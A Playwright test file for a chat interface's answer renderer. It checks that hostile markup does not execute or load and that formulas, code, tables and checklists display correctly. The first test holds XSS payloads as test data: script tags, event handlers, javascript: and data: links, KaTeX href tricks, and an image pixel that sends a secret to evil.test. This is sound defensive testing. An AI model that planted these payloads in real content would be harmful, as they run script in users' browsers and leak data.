// An answer is text from a stranger: it may look good, and it may do nothing.
import { expect, test } from '../support/fixtures'
import { ask } from '../support/simulator'

const hostile = `Before.

<script>window.broken = 'script'</script>
<img src="https://evil.test/a.png" onerror="window.broken = 'onerror'">
<svg onload="window.broken = 'svg'"></svg>
<iframe src="https://evil.test/frame"></iframe>
<style>body { display: none }</style>

Inline <b onclick="window.broken = 'b'">html</b> and <img src=x onerror="window.broken = 'inline'">.

![remote](https://evil.test/pixel.png?q=secret)
![data](data:text/html,<script>window.broken='data'</script>)

[click](javascript:window.broken='link') [again](JaVaScRiPt:window.broken='link2')
[data link](data:text/html,<script>window.broken='data2'</script>)
[vb](vbscript:x) [relative](/api/v1/auths/signout) [fine](https://example.test/path)

<javascript:window.broken='auto'>

$\\href{javascript:window.broken='tex'}{x}$ $\\includegraphics{https://evil.test/tex.png}$

After.`

test('nothing in an answer runs or loads', async ({ chat, baseURL }) => {
  const elsewhere: string[] = []
  chat.page.on('request', (request) => {
    if (!request.url().startsWith(baseURL as string) && !/^(data|blob):/.test(request.url()))
      elsewhere.push(request.url())
  })
  chat.page.on('dialog', (dialog) => elsewhere.push(`dialog ${dialog.message()}`))
  await chat.send(ask('Attack', { answer: hostile }))
  await expect(chat.answer.root).toHaveAttribute('aria-busy', 'false')
  await expect(chat.answer.text).toContainText('After.')
  for (const word of ['click', 'again', 'data link', 'vb', 'relative']) {
    await expect(chat.answer.text.getByRole('link', { name: word, exact: true })).toHaveCount(0)
    await chat.answer.text.getByText(word).first().click()
  }
  const bad =
    'script, img, iframe, svg:not(.katex svg):not(.icon), style, object, embed, [onclick], [onerror], [onload]'
  await expect(chat.answer.text.locator(bad)).toHaveCount(0)
  const links = await chat.answer.text
    .locator('a')
    .evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]))
  for (const [href, rel] of links) {
    expect(href).toMatch(/^https:\/\/(evil|example)\.test\//)
    expect(rel).toBe('noopener noreferrer')
  }
  await chat.page.reload()
  await expect(chat.answer.text).toContainText('After.')
  expect(await chat.page.evaluate(() => (window as unknown as { broken?: string }).broken)).toBeUndefined()
  expect(elsewhere).toEqual([])
})

const rich = `## Smoothing

The weight is $\\alpha(1-\\alpha)^k$, and

$$
s_t = \\alpha\\, x_t + (1 - \\alpha)\\, s_{t-1}
$$

\`\`\`python
def smooth(values, alpha=0.3):
    return [alpha * v for v in values]
\`\`\`

| Month | Revenue |
|---|---:|
| 2026-01 | 18,420.00 |
| 2026-02 | 9,310.50 |

- [x] done
- [ ] open

It costs $5 and $6.`

test('formulas, code, tables and lists are drawn', async ({ chat }) => {
  await chat.send(ask('Show', { answer: rich, reasoning: 'I think first.' }))
  const { text } = chat.answer
  await expect(text.locator('.katex')).toHaveCount(2)
  await expect(text.locator('.katex-display')).toHaveCount(1)
  await expect(text.locator('.katex-error')).toHaveCount(0)
  const code = text.getByRole('figure', { name: 'Python' })
  await expect(code.locator('pre')).toHaveText('def smooth(values, alpha=0.3):\n    return [alpha * v for v in values]')
  await expect(code.locator('pre span[style*="color"]').first()).toBeVisible() // coloured by the worker
  await expect(text.getByRole('table').getByRole('row')).toHaveCount(3)
  await expect(text.getByRole('cell', { name: '9,310.50' })).toHaveCSS('text-align', 'right')
  await expect(text.getByRole('checkbox')).toHaveCount(2)
  await expect(text).toContainText('It costs $5 and $6.')
  const reasoning = chat.answer.root.getByRole('button', { name: 'Reasoning' })
  await expect(chat.answer.root.getByText('I think first.')).toBeHidden()
  await reasoning.click()
  await expect(chat.answer.root.getByText('I think first.')).toBeVisible()
})
